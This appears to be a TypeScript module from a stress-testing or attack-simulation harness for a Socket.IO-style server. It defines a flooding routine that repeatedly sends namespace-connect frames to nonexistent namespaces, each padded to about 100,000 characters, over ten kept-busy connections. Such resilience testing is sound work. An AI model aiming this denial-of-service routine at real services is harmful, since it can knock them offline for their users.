import type { Attacker } from '../attack.js';
import { text } from '../frames.js';
import { Wire } from '../wire.js';

/** CONNECTs to namespaces that do not exist, each as large as a frame may be. */
export const unknownNamespaces: Attacker = (attack) => {
  const payload = JSON.stringify({ fill: 'x'.repeat(100_000) });
  return attack.keepBusy(
    { connections: 10, everyMs: 200 },
    (address) => Wire.open(attack.url, address),
    (wire) => attack.flood(wire, text(`40/none,${payload}`)),
  );
};
